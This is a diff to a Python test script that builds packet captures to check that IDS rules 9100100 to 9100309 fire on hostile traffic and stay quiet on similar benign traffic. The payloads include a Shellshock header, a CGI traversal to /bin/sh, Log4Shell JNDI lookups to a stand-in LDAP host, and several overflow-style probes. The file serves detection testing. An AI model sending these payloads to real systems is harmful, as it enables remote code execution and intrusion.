@@ -1,6 +1,6 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: Apache-2.0
-"""Every rule 9100100 to 9100207 of rules/suricata/iot-ot.rules: a conversation that must fire it, and one alike that must not.
+"""Every rule 9100100 to 9100309 of rules/suricata: a conversation that must fire it, and one alike that must not.
 
   rule_cases.py SENSOR RULES_DIR [--keep DIR]
 
@@ -10,6 +10,7 @@ import argparse
 import json
 import os
 import re
+import socket
 import struct
 import subprocess
 import sys
@@ -20,6 +21,14 @@ from span_matrix import a4, ip4, tcp_with_sum, udp
 
 MASTER, STRANGER, PLC = "10.30.1.5", "10.30.1.77", "10.30.1.11"
 OUTSIDE, CAMERA, RECORDER, OFFICE = "203.0.113.50", "10.20.4.12", "10.10.0.30", "10.10.0.200"
+
+
+def checksum(data):
+    data += b"\0" * (len(data) % 2)
+    total = sum(struct.unpack(f">{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
 
 
 class Capture:
@@ -60,9 +69,16 @@ class Capture:
         self.tcp_segment(dst, src, dport, sport, s, c + 1, 0x11)
         self.tcp_segment(src, dst, sport, dport, c + 1, s + 1, 0x10)
 
-    def udp(self, src, dst, dport, data):
+    def udp(self, src, dst, dport, data, sport=None):
         self.port += 1
-        self.add(src, dst, 17, udp(a4(src), a4(dst), self.port, dport, data))
+        self.add(src, dst, 17, udp(a4(src), a4(dst), sport or self.port, dport, data))
+
+    def add6(self, src, dst, proto, segment):
+        ends = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
+        total = checksum(ends + struct.pack(">II", len(segment), proto) + segment)
+        self.ts += 0.001
+        self.frames.append((self.ts, b"\x33\x33\0\0\0\1\2\0\0\0\0\1\x86\xdd" + struct.pack(">IHBB", 0x60000000, len(segment), proto, 255) + ends +
+                            segment[:2] + struct.pack(">H", total) + segment[4:]))
 
     def write(self, path):
         with open(path, "wb") as f:
@@ -212,6 +228,25 @@ def dgram(src, dst, port, data, n=1):
     return run
 
 
+def echo(src, dst, data):
+    message = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + data
+    return lambda c: c.add(src, dst, 1, message[:2] + struct.pack(">H", checksum(message)) + message[4:])
+
+
+def icq(data):
+    return lambda c: c.udp(OUTSIDE, OFFICE, 5442, data, 4000)
+
+
+def advert(option):
+    """A router's advertisement over IPv6."""
+    body = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + option
+    return lambda c: c.add6("fe80::1", "ff02::1", 58, body)
+
+
+def portmap(procedure):
+    return struct.pack(">IIIIII", 7, 0, 2, 100000, 2, procedure) + bytes(32)
+
+
 def by_stranger(port, message, make=tcp):
     """A stranger does it; the master may."""
     return make(STRANGER, PLC, port, message), make(MASTER, PLC, port, message)
@@ -235,9 +270,9 @@ CASES = {
     9100113: by_stranger(E, enip(0x63, session=0), dgram),
     **{sid: by_stranger(D, dnp3(fn, objects)) for sid, fn, objects in (
         (9100120, 2, h("5001 00 07 07 00")), (9100121, 9, h("1400 06")), (9100124, 17, b""), (9100125, 19, b""), (9100127, 20, h("3c02 06")),
-        (9100128, 25, h("4603 5b 01 0000")), (9100130, 22, h("3c02 06 0100 06")))},
+        (9100126, 21, h("3c02 06")), (9100128, 25, h("4603 5b 01 0000")), (9100130, 22, h("3c02 06 0100 06")))},
     **{sid: by_anybody(D, dnp3(fn, objects), dnp3(1, h("3c01 06"))) for sid, fn, objects in (
-        (9100122, 18, b""), (9100123, 16, b""), (9100126, 21, h("3c02 06")), (9100129, 27, h("4603 5b 01 0000")))},
+        (9100122, 18, b""), (9100123, 16, b""), (9100129, 27, h("4603 5b 01 0000")))},
     9100140: by_stranger(S7, s7(0x28, h("00000000 0000fd 0000") + b"\x09P_PROGRAM")),
     9100141: by_anybody(S7, s7(0x28, h("00000000 0000fd 000a 01 00") + b"0800001P\x05_DELE"), s7(0x04, h("01 120a10020001 0001 84 000000"))),
     9100142: by_anybody(S7, s7(0x28, h("00000000 0000fd 0000") + b"\x05_MODU"), s7(0x04, h("01 120a10020001 0001 84 000000"))),
@@ -285,13 +320,24 @@ CASES = {
               tcp_many(3, OFFICE, CAMERA, 554, b"DESCRIBE rtsp://10.20.4.12/x RTSP/1.0\r\nCSeq: 1\r\n\r\n", ("s", b"RTSP/1.0 404 Not Found\r\nCSeq: 1\r\n\r\n"))),
     9100206: (tcp(OUTSIDE, CAMERA, 23, b"root\r\n", b"enable\r\n", b"system\r\n", b"shell\r\n", b"sh\r\n"), tcp(OFFICE, CAMERA, 23, b"root\r\n", b"enable\r\n", b"show version\r\n")),
     9100207: (syns(25, CAMERA, 37215), syns(10, CAMERA, 37215)),
+    9100300: (dgram(OFFICE, PLC, 48899, h("03661471 00000000 06000000 c0a801c7 0101 1027 05000000")),
+              dgram(OFFICE, PLC, 48899, h("03661471 00000000 01000000 c0a801c7 0101 1027 00000000"))),
+    9100301: (echo(OUTSIDE, OFFICE, b"shell\0".ljust(800, b"\0")), echo(OUTSIDE, OFFICE, bytes(range(256)) * 3)),
+    9100302: (dgram(OUTSIDE, OFFICE, 1434, b"\4" + b"\1" * 110), dgram(OUTSIDE, OFFICE, 1434, b"\4" + b"INSTANCE1")),
+    9100303: (icq(h("0500 0000000000 12020000000000000000022c00050000") + b"x" * 600), icq(h("0500 0000000000 12020000000000000000022c00050000"))),
+    9100304: (tcp(OUTSIDE, OFFICE, 80, b"GET /a HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; id\r\n\r\n"), tcp(OUTSIDE, OFFICE, 80, http("/a"))),
+    9100305: (tcp(OUTSIDE, OFFICE, 80, http("/cgi-bin/.%2e/%2e%2e/bin/sh")), tcp(OUTSIDE, OFFICE, 80, http("/a%20b/../c.html"))),
+    9100306: (tcp(OUTSIDE, OFFICE, 80, http("/?q=${jNdi:ldap://203.0.113.9/a}")), tcp(OUTSIDE, OFFICE, 80, http("/?q=${java:version}"))),
+    9100307: (tcp(OUTSIDE, OFFICE, 80, http("/login", b"u=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D")), tcp(OUTSIDE, OFFICE, 80, http("/login", b"u=%24%7Bjava%7D"))),
+    9100308: (advert(h("1908 0000 ffffffff") + b"A" * 56), advert(h("1903 0000 ffffffff") + b"A" * 16)),
+    9100309: (dgram(OUTSIDE, OFFICE, 111, portmap(1)), dgram(OUTSIDE, OFFICE, 111, portmap(3))),
 }
 
 
 def fired(sensor, rules, capture, out):
     os.makedirs(out)
     capture.write(os.path.join(out, "in.pcap"))
-    done = subprocess.run([sensor, "-r", os.path.join(out, "in.pcap"), "-c", os.path.join(rules, "vars.yaml"), "-S", os.path.join(rules, "iot-ot.rules"),
+    done = subprocess.run([sensor, "-r", os.path.join(out, "in.pcap"), "-c", os.path.join(rules, "vars.yaml"), "-S", rules,
                            "-l", out, "--quiet", "--set", "event.types=alert", "--set", "sandbox.enabled=false"], capture_output=True, text=True, timeout=120, check=False)
     if done.returncode:
         sys.exit(f"{sensor}: status {done.returncode}: {done.stderr[-800:]}")
@@ -305,8 +351,10 @@ def main():
     ap.add_argument("rules")
     ap.add_argument("--keep")
     a = ap.parse_args()
-    with open(os.path.join(a.rules, "iot-ot.rules"), encoding="utf-8") as f:
-        sids = {int(s) for s in re.findall(r"sid:(91001\d\d|91002\d\d);", f.read())}
+    sids = set()
+    for name in ("iot-ot.rules", "dc.rules"):
+        with open(os.path.join(a.rules, name), encoding="utf-8") as f:
+            sids |= {int(s) for s in re.findall(r"sid:(9100[123]\d\d);", f.read())}
     faults = [f"{sid}: has no case" for sid in sorted(sids - set(CASES))] + [f"{sid}: there is no such rule" for sid in sorted(set(CASES) - sids)]
     with tempfile.TemporaryDirectory(prefix="tramgac-rules.") as work:
         for sid, (fires, quiet) in sorted(CASES.items()):
